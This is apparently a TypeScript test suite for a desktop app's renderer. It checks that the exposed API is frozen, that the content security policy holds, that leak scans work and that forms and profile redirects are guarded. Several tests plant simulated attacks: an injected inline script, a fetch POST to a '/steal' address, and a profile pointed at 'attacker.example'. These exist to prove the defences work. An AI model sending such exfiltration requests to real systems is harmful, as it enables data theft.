import { randomUUID } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { ESLint } from 'eslint';
import { describe, expect, it } from 'vitest';
import { CHANNEL_NAMES, EVENT_NAMES } from '../../src/shared/channels';
import { chromiumUnavailable, findValueLeaks, openApp, storeSnapshot } from './harness';

const unavailable = chromiumUnavailable();

describe.skipIf(unavailable !== null)(`the renderer in real Chromium${unavailable ? ` (skipped: ${unavailable})` : ''}`, () => {
  it('exposes exactly the contract as a frozen window.foundry, and no Node', async () => {
    const app = await openApp();
    try {
      const facts = await app.page.evaluate(() => {
        const api = (window as unknown as { foundry: Record<string, unknown> }).foundry;
        const { on, ...channels } = api as { on: Record<string, unknown> };
        const frozenFunctions = (record: Record<string, unknown>) => Object.values(record).every((fn) => typeof fn === 'function' && Object.isFrozen(fn));
        return {
          keys: Object.keys(api),
          events: Object.keys(on),
          frozen: Object.isFrozen(api) && frozenFunctions(channels) && Object.isFrozen(on) && frozenFunctions(on),
          replaced: (() => {
            try {
              (window as unknown as { foundry: unknown }).foundry = {};
            } catch {
              /* strict-mode assignment to a read-only property throws */
            }
            return (window as unknown as { foundry: unknown }).foundry !== api;
          })(),
          require: typeof (window as unknown as { require?: unknown }).require,
          process: typeof (window as unknown as { process?: unknown }).process,
        };
      });
      expect(facts).toEqual({ keys: [...CHANNEL_NAMES, 'on'], events: [...EVENT_NAMES], frozen: true, replaced: false, require: 'undefined', process: 'undefined' });
    } finally {
      await app.close();
    }
  });

  it('blocks an injected inline script and a connection to another origin (CSP)', async () => {
    const app = await openApp();
    try {
      const result = await app.page.evaluate(async () => {
        const violations: string[] = [];
        document.addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective));
        const script = document.createElement('script');
        script.textContent = 'window.pwned = true';
        document.body.appendChild(script);
        let fetched = true;
        try {
          await fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'x' });
        } catch {
          fetched = false;
        }
        await new Promise((resolve) => setTimeout(resolve, 50));
        return { pwned: (window as unknown as { pwned?: boolean }).pwned, fetched, violations };
      });
      expect(result.pwned).toBeUndefined();
      expect(result.fetched).toBe(false);
      expect(result.violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
      // These two violations were provoked on purpose; nothing else may have been reported.
      app.problems.splice(0, app.problems.length, ...app.problems.filter((p) => !/CSP violation|Refused to|Content Security Policy|Failed to fetch/.test(p)));
    } finally {
      await app.close();
    }
  });

  it('the leak scan searches everything the page printed or threw, of every console type', async () => {
    const app = await openApp();
    try {
      await app.page.getByRole('heading', { level: 1 }).first().waitFor();
      const warned = `planted-warn-${randomUUID()}`;
      await app.page.evaluate((value) => console.warn(value), warned);
      expect(await findValueLeaks(app.page, warned)).toEqual(['console']);
      // Inside an object (whose text is only a preview), and at the quietest level.
      const nested = `planted-debug-${randomUUID()}`;
      await app.page.evaluate((value) => console.debug('state', { deep: { value } }), nested);
      expect(await findValueLeaks(app.page, nested)).toEqual(['console']);
      const thrown = `planted-throw-${randomUUID()}`;
      await app.page.evaluate((value) => {
        setTimeout(() => {
          throw new Error(value);
        });
      }, thrown);
      await expect.poll(() => findValueLeaks(app.page, thrown)).toEqual(['page error']);
      // Provoked on purpose; anything else still fails the test.
      app.problems.splice(0, app.problems.length, ...app.problems.filter((p) => !p.includes(thrown)));
    } finally {
      await app.close();
    }
  });

  it('exposes the store to tests as a read-only JSON snapshot only, and the scan fails without it', async () => {
    const app = await openApp();
    try {
      await app.page.getByRole('heading', { level: 1 }).first().waitFor();
      const facts = await app.page.evaluate(() => {
        const descriptor = Object.getOwnPropertyDescriptor(globalThis, '__FOUNDRY_STATE__');
        const before = (globalThis as { __FOUNDRY_STATE__?: unknown }).__FOUNDRY_STATE__;
        try {
          (globalThis as { __FOUNDRY_STATE__?: unknown }).__FOUNDRY_STATE__ = '{"view":"audit"}';
        } catch {
          /* strict-mode assignment to a getter without a setter throws */
        }
        return {
          type: typeof before,
          getter: typeof descriptor?.get,
          setter: typeof descriptor?.set,
          configurable: descriptor?.configurable,
          unchanged: (globalThis as { __FOUNDRY_STATE__?: unknown }).__FOUNDRY_STATE__ === before,
        };
      });
      expect(facts).toEqual({ type: 'string', getter: 'function', setter: 'undefined', configurable: false, unchanged: true });
      // Plain data: no action of the store is reachable through it.
      const snapshot = await storeSnapshot(app.page);
      // (The app opens on its home screen, the coverage matrix.)
      expect(snapshot).toMatchObject({ view: 'fleet' });
      expect(JSON.stringify(snapshot)).not.toContain('function');

      // A page without the hook: the scan reports it instead of skipping the store.
      const bare = await app.context.newPage();
      await bare.goto(`${app.host.origin}/no-such-page`);
      expect(await findValueLeaks(bare, 'anything')).toEqual(expect.arrayContaining(['store hook missing']));
      await bare.close();
    } finally {
      await app.close();
    }
  });

  it('reports a form submitted natively (one whose submit the app did not stop)', async () => {
    const app = await openApp();
    try {
      await app.page.getByRole('heading', { level: 1 }).first().waitFor();
      const url = app.page.url();
      await app.page.evaluate(() => {
        const form = document.createElement('form');
        form.setAttribute('aria-label', 'planted form');
        const input = document.createElement('input');
        input.name = 'secret';
        input.value = 'x';
        form.append(input);
        document.body.append(form);
        form.requestSubmit();
      });
      await expect.poll(() => app.problems).toContain('console error: native form submission: planted form');
      expect(app.page.url()).toBe(url);
      app.problems.splice(0, app.problems.length, ...app.problems.filter((p) => !p.includes('planted form')));
    } finally {
      await app.close();
    }
  });
});

describe('the renderer source', () => {
  const files = (readdirSync('src/renderer', { recursive: true, encoding: 'utf8' }) as string[]).filter((file) => file.endsWith('.tsx')).map((file) => path.join('src/renderer', file));

  it('gives every <form> an onSubmit that prevents the native submission first', () => {
    let forms = 0;
    for (const file of files) {
      const source = readFileSync(file, 'utf8');
      for (const match of source.matchAll(/<form\b([^>]*)>/g)) {
        forms += 1;
        const attributes = match[1] ?? '';
        expect(attributes, `${file}: a <form> without onSubmit`).toMatch(/\bonSubmit=\{/);
        expect(attributes, `${file}: a <form> with an action or method`).not.toMatch(/\b(action|method)=/);
      }
      // Every submit handler's first statement stops the browser's own submission.
      for (const handler of source.matchAll(/function submit\(event: FormEvent\)\s*\{\s*([^;]*);/g)) expect(handler[1], file).toBe('event.preventDefault()');
    }
    expect(forms).toBeGreaterThanOrEqual(7);
  });

  it('may not use the console at all (lint), whatever the rest of the code may', async () => {
    const eslint = new ESLint();
    const [renderer] = await eslint.lintText("console.warn('x');\nconsole.error('y');\n", { filePath: 'src/renderer/src/planted.ts' });
    expect(renderer?.messages.filter((m) => m.ruleId === 'no-console')).toHaveLength(2);
    const [main] = await eslint.lintText("console.warn('x');\n", { filePath: 'src/main/planted.ts' });
    expect(main?.messages.filter((m) => m.ruleId === 'no-console')).toHaveLength(0);
  });
  it("cannot redirect future writes: script in the page re-points profiles, and main refuses until its own confirmation", async () => {
    const app = await openApp({ profileConfirmations: 'desk' });
    try {
      type Answer = { ok: true } | { ok: false; code: string };
      const call = (profile: Record<string, unknown>) =>
        app.page.evaluate(async (input): Promise<Answer> => {
          const api = (window as unknown as { foundry: { saveProfile(input: unknown): Promise<{ ok: boolean; error?: { code: string } }> } }).foundry;
          const result = await api.saveProfile({ profile: input });
          return result.ok ? { ok: true } : { ok: false, code: result.error?.code ?? '' };
        }, profile);
      const stored = () => JSON.parse(readFileSync(path.join(app.userDataDir, 'profiles.json'), 'utf8')) as { activeId: string; profiles: { id: string; kind: string }[] };

      // The active embedded profile, re-saved as a LocalStack profile pointing elsewhere: refused outright.
      const redirect = { kind: 'localstack', id: 'embedded', name: 'Embedded vault', env: 'dev', readOnly: false, endpoint: 'http://127.0.0.2:4566', region: 'us-east-1' };
      expect(await call(redirect)).toEqual({ ok: false, code: 'VALIDATION' });
      expect(stored().profiles).toEqual([expect.objectContaining({ id: 'embedded', kind: 'embedded' })]);

      // A new profile: the page's call waits on main's desk; declined, nothing is saved.
      const attacker = { kind: 'localstack', id: 'evil', name: 'Evil', env: 'dev', readOnly: false, endpoint: 'https://attacker.example', region: 'us-east-1' };
      const declined = call(attacker);
      const first = await app.host.confirmations.next();
      expect(first.request.detail).toContain('endpoint: https://attacker.example');
      expect(stored().profiles.map((p) => p.id)).toEqual(['embedded']);
      first.decline();
      expect(await declined).toEqual({ ok: false, code: 'ACCESS_DENIED' });
      expect(stored().profiles.map((p) => p.id)).toEqual(['embedded']);

      // Only main's own confirmation lets it through.
      const approved = call(attacker);
      (await app.host.confirmations.next()).approve();
      expect(await approved).toEqual({ ok: true });
      expect(stored().profiles.map((p) => p.id)).toEqual(['embedded', 'evil']);
    } finally {
      await app.close();
    }
  });
});
